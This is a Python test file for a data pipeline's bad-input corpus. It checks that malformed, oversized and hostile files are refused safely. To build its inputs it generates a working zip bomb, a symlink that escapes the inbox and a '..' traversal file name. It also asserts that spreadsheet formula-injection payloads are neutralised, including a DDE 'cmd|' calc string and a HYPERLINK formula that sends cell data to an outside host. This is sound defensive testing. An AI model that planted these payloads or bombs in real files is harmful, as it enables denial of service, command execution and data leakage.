"""The bad-input corpus (tests/bad_input/cases.yaml): each malformed file gets its own clear
outcome, nothing already loaded is lost, and the run goes on with the other files.

One module fixture loads a good baseline into a throwaway DuckDB, then every corpus file (and
the big, bomb, link and '..' files it makes) with one more good file per source, through the
ingestion functions the Dagster assets call. No dbt build, no Dagster run.
"""

from __future__ import annotations

import csv
import datetime as dt
import os
import shutil
import time
import tracemalloc
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd
import pytest
import yaml
from conftest import write_csv
from test_contracts import GOOD_ROWS, _second_row
from typer.testing import CliRunner

import pipelines.ingest.load as load
from pipelines.config import MISSION_SOURCES as SOURCES
from pipelines.config import get_settings
from pipelines.ingest.load import FileOutcome, ingest_source, read_candidates
from pipelines.ingest.read import MB, FileRejected, read_file

CORPUS = Path(__file__).resolve().parent / "bad_input"
CASES: list[dict] = yaml.safe_load((CORPUS / "cases.yaml").read_text(encoding="utf-8"))["cases"]
AS_OF = dt.date(2026, 1, 15)
KEY = b"k" * 32
EXTENSIONS = get_settings().inbox.extensions  # what a deployment reads (config/pocmon.yaml)
MTIME = 1_750_000_000  # every run-2 file: inbox order is then by name
SECRET = "TOP-SECRET-OUTSIDE-THE-INBOX"


# ---------------------------------------------------------------------------------------------
# Files too big or too dangerous to commit.


def make_huge_csv(path: Path) -> None:
    """100 MB of valid-looking patrol rows, written in blocks (never held in memory)."""
    rows = [GOOD_ROWS["patrols"]]
    write_csv(path, rows)
    line = path.read_text(encoding="utf-8").splitlines()[1] + "\n"
    block = line.encode() * (MB // len(line))
    with path.open("ab") as handle:
        while handle.tell() + len(block) <= 100 * MB:
            handle.write(block)
        handle.write(b"x" * (100 * MB - handle.tell()))


def make_zip_bomb(path: Path) -> None:
    """A real workbook whose sheet XML, 100 MB of one cell's text, is stored in about 0.1 MB."""
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(list(GOOD_ROWS["strength"]))
    book.save(path.with_suffix(".tmp"))
    with zipfile.ZipFile(path.with_suffix(".tmp")) as source, \
            zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bomb:
        for member in source.infolist():
            if member.filename != "xl/worksheets/sheet1.xml":
                bomb.writestr(member, source.read(member))
                continue
            head = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
                    b'openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
                    b'<c r="A1" t="inlineStr"><is><t>')
            tail = b"</t></is></c></row></sheetData></worksheet>"
            with bomb.open(member.filename, "w", force_zip64=True) as sheet:
                sheet.write(head)
                chunk = b"A" * MB
                for _ in range(100 - 1):
                    sheet.write(chunk)
                sheet.write(b"A" * (MB - len(head) - len(tail)) + tail)
    path.with_suffix(".tmp").unlink()


def make_escape_link(path: Path, outside: Path) -> None:
    secret = outside / "secret.csv"
    write_csv(secret, [GOOD_ROWS["patrols"] | {"patrol_id": SECRET}])
    path.symlink_to(secret)


def make_dotdot_name(path: Path, outside: Path) -> None:
    write_csv(path, [GOOD_ROWS["patrols"] | {"patrol_id": SECRET}])


def make_dangling_link(path: Path, outside: Path) -> None:
    path.symlink_to(path.with_name("deleted.csv"))


GENERATORS = {
    "patrols/dangling_link.csv": make_dangling_link,
    "patrols/huge_100mb.csv": lambda path, outside: make_huge_csv(path),
    "strength/zip_bomb.xlsx": lambda path, outside: make_zip_bomb(path),
    "patrols/escape_link.csv": make_escape_link,
    "patrols/archive\\..\\..\\escape.csv": make_dotdot_name,
}


# ---------------------------------------------------------------------------------------------
# The run: a good baseline, then the corpus with other good files.


def _good_rows(source: str, tag: str) -> list[dict[str, str]]:
    """Two good rows of a week (month, round) of their own, keys tagged."""
    changes = {
        "patrols": {"start_time": "2025-01-13 08:00", "end_time": "2025-01-13 10:00"},
        "incidents": {"occurred_at": "2025-01-13 08:00", "reported_at": "2025-01-13 09:00",
                      "alert_received_at": "2025-01-13 08:10",
                      "response_arrived_at": "2025-01-13 09:00"},
        "trainings": {"start_date": "2025-01-13", "end_date": "2025-01-17"},
        "strength": {"month": "2025-02"},
        "surveys": {"round": "2025-R2"},
    }[source] if tag else {}
    rows = [GOOD_ROWS[source] | changes, _second_row(source, changes)]
    key = {"patrols": "patrol_id", "incidents": "incident_id", "trainings": "session_id",
           "surveys": "respondent_id"}.get(source)
    for row in rows:
        if key:
            row[key] += tag
    return rows


@dataclass
class CorpusRun:
    con: object
    inbox: Path
    outside: Path
    outcomes: dict[str, FileOutcome] = field(default_factory=dict)
    opened: list[Path] = field(default_factory=list)
    seconds: float = 0.0

    def query(self, sql: str, params: list | None = None) -> pd.DataFrame:
        return self.con.execute(sql, params or []).df()  # type: ignore[attr-defined]


@pytest.fixture(scope="module")
def corpus_run(tmp_path_factory, reference) -> Iterator[CorpusRun]:
    from pipelines.ingest.warehouse import connect

    base = tmp_path_factory.mktemp("bad-input")
    inbox, outside = base / "inbox", base / "outside"
    outside.mkdir()
    max_file_mb = get_settings().inbox.max_file_mb
    with connect(base / "warehouse.duckdb") as con:
        for source in SOURCES:
            write_csv(inbox / source / "baseline.csv", _good_rows(source, ""))
            ingest_source(con, source, inbox, reference, KEY, extensions=EXTENSIONS,
                          as_of=AS_OF)
        con.execute("create schema before")  # the warehouse as the bad files find it
        for table in ("ops.manifest", "ops.quarantine", *(f"raw.{s}" for s in SOURCES)):
            con.execute(f"create table before.{table.split('.')[1]} as select * from {table}")
        run = CorpusRun(con, inbox, outside)

        for case in CASES:
            source, name = case["file"].split("/", 1)
            target = inbox / source / "bad_input" / name
            target.parent.mkdir(parents=True, exist_ok=True)
            if case.get("generated"):
                GENERATORS[case["file"]](target, outside)
            else:
                shutil.copyfile(CORPUS / case["file"], target)
        for source in SOURCES:
            write_csv(inbox / source / "good_week.csv", _good_rows(source, "-w"))
        for path in inbox.rglob("*"):
            os.utime(path, (MTIME, MTIME), follow_symlinks=False)

        def spy(function):
            def wrapper(path, *args, **kwargs):
                run.opened.append(path)
                return function(path, *args, **kwargs)
            return wrapper

        start = time.perf_counter()
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(load, "content_hash", spy(load.content_hash))
            patch.setattr(load, "read_file", spy(load.read_file))
            for source in SOURCES:
                report = ingest_source(con, source, inbox, reference, KEY,
                                       extensions=EXTENSIONS, max_file_mb=max_file_mb,
                                       as_of=AS_OF)
                run.outcomes |= {f.file_name: f for f in report.files}
        run.seconds = time.perf_counter() - start
        yield run


# ---------------------------------------------------------------------------------------------


def test_the_corpus_is_complete_small_and_described() -> None:
    listed = [c["file"] for c in CASES]
    committed = sorted(p.relative_to(CORPUS).as_posix() for source in SOURCES
                       for p in (CORPUS / source).glob("*"))
    assert len(listed) == len(set(listed)) and len(CASES) >= 30
    assert sorted(c["file"] for c in CASES if not c.get("generated")) == committed
    assert len(committed) >= 30
    for case in CASES:
        assert case["source"] == case["file"].split("/")[0] and case["problem"]
        assert case["outcome"] in {"loaded", "quarantined", "rejected"}
        assert ("message" in case) == (case["outcome"] == "rejected")
        assert bool(case.get("issues")) == (case["outcome"] == "quarantined")
    assert max((CORPUS / f).stat().st_size for f in committed) < 16_000


def _name(case: dict) -> str:
    source, name = case["file"].split("/", 1)
    return f"{source}/bad_input/{name}"


@pytest.mark.parametrize("case", CASES, ids=[c["file"] for c in CASES])
def test_each_bad_file_gets_its_outcome_and_a_clear_message(case: dict,
                                                            corpus_run: CorpusRun) -> None:
    name = _name(case)
    outcome = corpus_run.outcomes[name]
    issues = corpus_run.query(
        "select row_number, column_name, rule, message from ops.quarantine where file_id = ? "
        "order by row_number, column_name", [outcome.file_id])
    (status, message), = corpus_run.query(
        "select status, coalesce(message, '') from ops.manifest where file_id = ?",
        [outcome.file_id]).itertuples(index=False)
    if case["outcome"] == "rejected":
        assert (outcome.status, status) == ("rejected", "rejected")
        ((row, column, rule, text),) = issues.itertuples(index=False)
        assert (pd.isna(row), pd.isna(column), rule) == (True, True, case["rule"])
        assert text.startswith(f"{name}: ") and case["message"] in text, text
        for secret in case.get("never_quoted", []):  # personal data of the file's rows
            assert secret not in text and secret not in message, text
        return
    assert (outcome.status, status) == ("loaded", "loaded")
    rows = case["rows"]
    assert (outcome.rows_read, outcome.rows_loaded) == (rows["read"], rows["loaded"])
    assert outcome.rows_quarantined == rows["read"] - rows["loaded"]
    if "note" in case:
        assert case["note"] in message, message
    expected = {(i["row"], i["column"], i["rule"]): i["message"] for i in case.get("issues", [])}
    found = {(int(r), None if pd.isna(c) else c, rule): text
             for r, c, rule, text in issues.itertuples(index=False)}
    assert set(found) == set(expected)
    for (row, column, rule), text in found.items():
        where = f"{name}, row {row}" + (f", column '{column}'" if column else "") + ": "
        assert text.startswith(where) and text.endswith(f"[rule: {rule}]"), text
        assert expected[(row, column, rule)] in text, text
    if "stored" in case:
        stored = dict(case["stored"])
        row = stored.pop("row")
        values = corpus_run.query(
            f"select {', '.join(f'cast({c} as varchar) as {c}' for c in stored)} "
            f"from raw.{case['source']} "
            "where _file_id = ? and _row_number = ?", [outcome.file_id, row])
        assert {k: str(v) for k, v in values.iloc[0].items()} == stored


def test_nothing_already_loaded_is_lost(corpus_run: CorpusRun) -> None:
    """Every row, manifest entry and quarantine entry of the baseline is still there, as it was."""
    for table in ("ops.manifest", "ops.quarantine", *(f"raw.{s}" for s in SOURCES)):
        before = f"before.{table.split('.')[1]}"
        ((lost,),) = corpus_run.query(
            f"select count(*) from (select * from {before} except all select * from {table})"
        ).itertuples(index=False)
        assert lost == 0, table
    ((kept,),) = corpus_run.query(
        "select count(*) from ops.manifest where status = 'loaded' "
        "and file_id in (select file_id from before.manifest)").itertuples(index=False)
    assert kept == len(SOURCES)


def test_the_run_goes_on_with_the_other_files(corpus_run: CorpusRun) -> None:
    for source in SOURCES:
        good = corpus_run.outcomes[f"{source}/good_week.csv"]
        assert (good.status, good.rows_read, good.rows_loaded) == ("loaded", 2, 2)
    expected = {_name(c) for c in CASES} | {f"{s}/good_week.csv" for s in SOURCES}
    assert set(corpus_run.outcomes) == expected | {f"{s}/baseline.csv" for s in SOURCES}
    assert {corpus_run.outcomes[f"{s}/baseline.csv"].status for s in SOURCES} == {"unchanged"}
    for source in SOURCES:
        unbalanced = corpus_run.query(
            f"select m.file_name from ops.manifest m where m.source = '{source}' and "
            "(m.rows_read <> m.rows_loaded + m.rows_quarantined or m.rows_loaded <> "
            f"(select count(*) from raw.{source} r where r._file_id = m.file_id))")
        assert unbalanced.empty, unbalanced


def test_paths_out_of_the_inbox_are_never_opened(corpus_run: CorpusRun) -> None:
    refused = [corpus_run.inbox / "patrols" / "bad_input" / n
               for n in ("escape_link.csv", "archive\\..\\..\\escape.csv")]
    assert not set(refused) & set(corpus_run.opened)
    assert all(p.resolve().is_relative_to(corpus_run.inbox.resolve())
               for p in corpus_run.opened)
    for table in ("raw.patrols", "ops.quarantine", "ops.manifest"):
        text = corpus_run.query(f"select * from {table}").astype(str).to_string()
        assert SECRET not in text


def test_a_path_climbing_out_of_the_inbox_is_refused_unread(reference, tmp_path) -> None:
    from pipelines.contracts import load_contract

    inbox = tmp_path / "inbox"
    (inbox / "patrols").mkdir(parents=True)
    write_csv(tmp_path / "outside.csv", [GOOD_ROWS["patrols"]])
    climbing = inbox / "patrols" / ".." / ".." / "outside.csv"
    assert climbing.is_file()
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(load, "content_hash", lambda path: pytest.fail(f"hashed {path}"))
        (candidate,), _ = read_candidates([climbing], inbox, load_contract("patrols"), set())
    assert candidate.read is None and candidate.rejection_rule == "unsafe_path"
    assert candidate.rejection == ("patrols/../../outside.csv: refused and not read: its path "
                                   "holds '..', which leads out of the inbox")


def _peak_bytes(function) -> tuple[object, int]:
    tracemalloc.start()
    try:
        result = function()
        return result, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_a_file_over_the_limit_is_refused_in_bounded_memory(corpus_run: CorpusRun) -> None:
    from pipelines.contracts import load_contract

    huge = corpus_run.inbox / "patrols" / "bad_input" / "huge_100mb.csv"
    assert huge.stat().st_size == 100 * MB
    (candidates, _), peak = _peak_bytes(lambda: read_candidates(
        [huge], corpus_run.inbox, load_contract("patrols"), set(),
        max_file_mb=get_settings().inbox.max_file_mb))
    assert candidates[0].rejection_rule == "file_too_large"
    assert peak < 4 * MB  # hashed in 1 MB blocks, never parsed


def test_a_zip_bomb_is_refused_before_anything_is_unzipped(corpus_run: CorpusRun) -> None:
    from pipelines.contracts import load_contract

    bomb = corpus_run.inbox / "strength" / "bad_input" / "zip_bomb.xlsx"
    assert bomb.stat().st_size < MB / 4
    with zipfile.ZipFile(bomb) as archive:
        assert archive.getinfo("xl/worksheets/sheet1.xml").file_size == 100 * MB
    start = time.perf_counter()
    tracemalloc.start()
    try:
        with pytest.raises(FileRejected) as refused:
            read_file(bomb, load_contract("strength"))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert refused.value.rule == "zip_bomb"
    assert peak < 4 * MB and time.perf_counter() - start < 2


def test_quarantine_report_csv_neutralises_formula_values(corpus_run: CorpusRun,
                                                          tmp_path) -> None:
    from dashboards.quarantine_report import build_quarantine_report

    build_quarantine_report(corpus_run.con, tmp_path)
    # with a byte order mark, or Excel reads the accents of French messages as Latin-1
    assert (tmp_path / "quarantine_report.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    with (tmp_path / "quarantine_report.csv").open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'=HYPERLINK(\"http://example.org/?\"&A1,\"details\")" in cells
    assert "'@SUM(A1:A9)" in cells and "'-2+3+cmd|' /C calc'!A0" in cells
    html = (tmp_path / "quarantine_report.html").read_text(encoding="utf-8")
    assert "=HYPERLINK(&quot;http://example.org/?&quot;&amp;A1" in html


def test_a_file_that_breaks_validation_is_rejected_alone(reference, warehouse, tmp_path,
                                                         monkeypatch) -> None:
    inbox = tmp_path / "inbox"
    write_csv(inbox / "patrols" / "a_good.csv", _good_rows("patrols", ""))
    write_csv(inbox / "patrols" / "b_breaks.csv", _good_rows("patrols", "-x"))
    validate_frame = load.validate_frame

    def breaking(frame, *args, **kwargs):
        if frame["patrol_id"].str.endswith("-x").any():
            raise RuntimeError("a value no rule foresaw")
        return validate_frame(frame, *args, **kwargs)

    monkeypatch.setattr(load, "validate_frame", breaking)
    report = ingest_source(warehouse, "patrols", inbox, reference, KEY, extensions=EXTENSIONS)
    outcomes = {f.file_name: f for f in report.files}
    assert (outcomes["patrols/a_good.csv"].status,
            outcomes["patrols/a_good.csv"].rows_loaded) == ("loaded", 2)
    assert outcomes["patrols/b_breaks.csv"].status == "rejected"
    assert outcomes["patrols/b_breaks.csv"].message == (
        "patrols/b_breaks.csv: the file cannot be validated (RuntimeError: a value no rule "
        "foresaw); please report it with the file")


def test_negative_numbers_pass_where_the_contract_range_allows_them(reference) -> None:
    from pipelines.contracts import ColumnSpec, load_contract
    from pipelines.ingest.validate import validate_frame

    contract = load_contract("patrols").model_copy(deep=True)
    contract.columns["longitude"] = ColumnSpec(name="longitude", type="number", min=-180,
                                               max=180)
    rows = _good_rows("patrols", "")
    rows[0] |= {"longitude": "-17.45"}
    rows[1] |= {"longitude": "-181", "persons": "-3"}
    frame = pd.DataFrame(rows).replace("", None)
    frame["__row_number"], frame["__file_id"] = [2, 3], "f"
    typed, issues = validate_frame(frame, contract, reference, AS_OF)
    assert sorted((i.row_number, i.column, i.rule) for i in issues) == [
        (3, "longitude", "range"), (3, "persons", "range")]
    assert typed.loc[0, "longitude"] == -17.45


def test_validate_command_reports_bad_files_without_loading(corpus_run: CorpusRun) -> None:
    from pipelines.cli import app

    files = [CORPUS / "patrols" / "formula_injection.csv", CORPUS / "patrols" / "empty.csv",
             corpus_run.inbox / "patrols" / "bad_input" / "huge_100mb.csv"]
    result = CliRunner().invoke(app, ["validate", *map(str, files)],
                                env={"COLUMNS": "200"})
    assert result.exit_code == 1
    assert ("formula_injection.csv, row 3, column 'patrol_id': '=HYPERLINK(" in result.output
            and "[rule: formula_like]" in result.output)
    assert "empty.csv: the file is empty" in result.output
    assert "more than the 50 MB allowed" in result.output
